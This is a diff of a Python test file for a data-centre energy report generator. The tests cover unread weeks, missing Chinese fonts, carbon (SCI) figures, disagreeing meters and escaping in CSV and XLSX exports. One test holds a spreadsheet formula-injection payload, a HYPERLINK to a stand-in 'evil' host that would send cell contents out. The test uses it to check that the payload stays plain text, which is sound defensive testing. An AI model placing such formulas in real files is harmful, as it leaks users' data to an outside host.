@@ -1,18 +1,23 @@
 """A report's sums are the store's, its parts sum to the meter, the same week gives the same bytes, nothing is made up."""
 
 import asyncio
+import io
 import json
 import re
+import zipfile
 import zlib
 from collections.abc import Iterator
+from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
+from types import SimpleNamespace
 from typing import NamedTuple
 from zoneinfo import ZoneInfo
 
 import httpx
 import numpy as np
 import pytest
+import typst
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from small import small_site
@@ -22,7 +27,7 @@ from energy.account.runs import TOPIC
 from energy.baseline import Verdict, saving
 from ingest.stores import open_store
 from ingest.stores.records import open_records
-from twin.errors import ConfigError
+from twin.errors import ConfigError, SourceError
 from twin.frame import Frame, Origin
 from twin.ports import Records, Store
 from twin.site import Site
@@ -32,13 +37,16 @@ from ui.faces.server import build_server
 from ui.oncall.book import Book
 from ui.oncall.file import no_oncall
 from ui.oncall.service import OnCall
+from ui.report import typeset
 from ui.report.compose import compose
-from ui.report.document import Report
+from ui.report.data import as_csv, as_xlsx
+from ui.report.document import Report, Section, Table
 from ui.report.energy import Limits
 from ui.report.gather import Inputs, gather
 from ui.report.page import page
 from ui.report.show import Show
 from ui.report.span import last_over, span_of
+from ui.report.tokens import Tokens
 from ui.report.write import FORMATS, files
 from ui.tasks import VirtualClock
 from ui.view import Live
@@ -134,6 +142,29 @@ def test_a_centre_that_reads_only_its_gpus_has_a_report_of_them(tmp_path: Path) 
     assert made.said[-1].params == {"read": pytest.approx(4 / 7)}
 
 
+def test_what_nobody_read_is_not_nought(tmp_path: Path) -> None:
+    """Half of the week was read, and of the GPUs their power alone."""
+    site = small_site()
+    store, records = open_store(tmp_path / "store", site), open_records(tmp_path / "records.db")
+    frames: list[Frame] = []
+    for k in range(7 * 96 // 2):
+        at = WEEK.start + timedelta(minutes=15 * k)
+        meters = {"facility_power_w": 12_000.0, "it_power_w": 10_000.0, "cooling_power_w": 1_500.0}
+        frames += [Frame("gpu", at, site.all_rows("gpu"), {"power_w": np.full(16, 500.0)}), _one("site", at, meters)]
+    store.append(frames)
+    run = {"key": "q/1", "job": "1", "user": "u", "project": "p", "partition": "", "start_s": WEEK.start.timestamp()}
+    records.append(TOPIC, WEEK.start, {"entry": "begun", **run, "gpus": [[0, 7]]})
+    made = compose(gather(site, store, records, WEEK, GIVEN), Limits())
+    store.close()
+    records.close()
+    found = figures(made)
+    assert "idle_held_frac" not in found
+    assert any("nobody read how busy they were" in one.text for one in made.said)
+    half = 12.0 * 84
+    assert found["facility_kwh"] == pytest.approx(half, rel=0.01)
+    assert found["kwh_per_gpu_h"] == pytest.approx(half / (8 * 84), rel=0.01), "of the hours in which energy was read"
+
+
 def test_parts_sum_to_the_meter_to_the_watt_hour(report: Report) -> None:
     for by in ("project", "user", "job"):
         table = next(table for table in report.tables() if table.key == f"by_{by}")
@@ -145,7 +176,7 @@ def test_parts_sum_to_the_meter_to_the_watt_hour(report: Report) -> None:
 
 
 def test_the_same_week_gives_the_same_bytes_in_every_format(report: Report) -> None:
-    one, other = (list(files(report, ("en", "zh"), FORMATS, WEEK.end, "CNY")) for _ in range(2))
+    one, other = (list(files(report, ("en", "zh"), FORMATS, WEEK.end, "CNY").files) for _ in range(2))
     assert [name for name, _ in one] == [name for name, _ in other]
     for (name, first), (_, second) in zip(one, other, strict=True):
         assert first == second, name
@@ -153,8 +184,30 @@ def test_the_same_week_gives_the_same_bytes_in_every_format(report: Report) -> N
     assert {name.rpartition(".")[2] for name, _ in one} == {"html", "pdf", "json", "csv", "xlsx"}
 
 
+def test_a_format_that_cannot_be_made_takes_no_other_with_it(report: Report, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(typst, "Fonts", lambda: SimpleNamespace(families=lambda: ["DejaVu Sans Mono"]))
+    typeset.no_font.cache_clear()
+    done = files(report, ("en", "zh"), ("html", "pdf", "json"), WEEK.end, "CNY")
+    assert [name for name, _ in done.files] == [f"2026-W46.{end}" for end in ("en.html", "en.pdf", "zh.html", "json")]
+    (why,) = done.left_out
+    assert why.startswith("2026-W46.zh.pdf: a PDF in Chinese needs a font")
+    with pytest.raises(SourceError, match="fonts-noto-cjk"):
+        files(report, ("zh",), ("pdf",), WEEK.end, "CNY")
+    monkeypatch.undo()
+    typeset.no_font.cache_clear()
+
+
+def test_a_name_that_a_spreadsheet_would_run_stays_a_text() -> None:
+    evil = '=HYPERLINK("http://evil/?"&A1,"report")'
+    table = Table("users", "Users", (("user", ""), ("it_kwh", "kWh")), ((evil, -1.5), ("li.na", 2.0)))
+    assert as_csv(table).splitlines()[1:] == ['"\'=HYPERLINK(""http://evil/?""&A1,""report"")",-1.5', "li.na,2.0"]
+    book = as_xlsx(Report("x", "", "2026-W46", "", "", "UTC", (), (), [Section("s", "S", blocks=[table])]), WEEK.end)
+    with zipfile.ZipFile(io.BytesIO(book)) as parts:
+        assert not any(b"<f>" in parts.read(name) for name in parts.namelist() if "sheet" in name)
+
+
 def test_the_page_shows_the_data_files_numbers_and_runs_nothing(report: Report) -> None:
-    made = dict(files(report, ("en",), ("html", "json"), WEEK.end, ""))
+    made = dict(files(report, ("en",), ("html", "json"), WEEK.end, "").files)
     text, data = made["2026-W46.html"].decode(), json.loads(made["2026-W46.json"])
     assert data["sections"]["energy"]["pue_ratio"]["value"] == pytest.approx(1.2)
     assert "1.200" in text
@@ -190,7 +243,7 @@ def test_each_number_links_to_the_question_behind_it(house: House, report: Repor
     reached = compose(gather(*house, WEEK, GIVEN), outside="https://twin.example.org/")
     urls = {figure.query for section in reached.sections for figure in section.figures if figure.query}
     assert all(url.startswith("https://twin.example.org/api/v1/") for url in urls)
-    made = dict(files(reached, ("en",), ("html", "pdf"), WEEK.end, ""))
+    made = dict(files(reached, ("en",), ("html", "pdf"), WEEK.end, "").files)
     assert b'href="https://twin.example.org/api/v1/energy?' in made["2026-W46.html"]
 
 
@@ -198,7 +251,7 @@ NO_QUESTION = ("free_cooling_s",)
 
 
 def test_the_pdf_is_tagged_for_those_who_hear_it(report: Report) -> None:
-    made = dict(files(report, ("zh",), ("pdf",), WEEK.end, ""))["2026-W46.pdf"]
+    made = dict(files(report, ("zh",), ("pdf",), WEEK.end, "").files)["2026-W46.pdf"]
     text = b"".join(_streams(made))
     assert b"pdfuaid" in text
     for mark in (b"/StructTreeRoot", b"/Lang", b"/MarkInfo"):
@@ -244,7 +297,30 @@ def test_a_week_that_nobody_read_says_so(tmp_path: Path) -> None:
         "Nothing was read in this span: no meter and no model says what the centre took in."
     ]
     assert not np.isfinite(figures(made)["facility_kwh"])
-    assert dict(files(made, ("en",), FORMATS, WEEK.end, ""))
+    assert dict(files(made, ("en",), FORMATS, WEEK.end, "").files)
+
+
+def test_the_sci_is_the_carbon_of_use_and_a_share_of_the_making(inputs: Inputs) -> None:
+    """1,500 kg for a GPU over 50,000 hours: 30 g for each hour held. Five million tokens took 40 of them."""
+    told = replace(inputs, tokens=Tokens(count=5e6, node_kwh=100.0, gpu_h=40.0))
+    found = figures(compose(told, Limits(embodied_kg_per_gpu=1500.0, gpu_life_s=3600 * 50_000.0)))
+    assert found["sci_kg_per_gpu_h"] == pytest.approx(found["kg_per_gpu_h"] + 0.03)
+    assert found["sci_kg_per_mtoken"] == pytest.approx(found["kg_per_mtoken"] + 0.03 * 40 / 5)
+    assert "sci_kg_per_gpu_h" not in figures(compose(told)), "nobody said what making a GPU emitted"
+
+
+def test_meters_that_disagree_are_named_and_counted_as_read(tmp_path: Path) -> None:
+    """IT's meters sum to 0.2 % more than the facility's: within the class of either."""
+    site: Site = small_site()
+    store, records = open_store(tmp_path / "store", site), open_records(tmp_path / "records.db")
+    hours = [WEEK.start + timedelta(hours=k) for k in range(7 * 24)]
+    read = {"facility_power_w": np.array([1e6]), "it_power_w": np.array([1.002e6])}
+    store.append([Frame("site", at, site.all_rows("site"), read) for at in hours])
+    inputs = gather(site, store, records, WEEK, Given())
+    assert inputs.account.indicators.pue_ratio == pytest.approx(1 / 1.002)
+    said = [m for part in compose(inputs).sections for m in part.lead if m.text.startswith("Meters disagree")]
+    assert [m.params["apart"] for m in said] == [pytest.approx(0.002)]
+    assert words("zh")(said[0].text) != said[0].text
 
 
 @pytest.mark.parametrize(
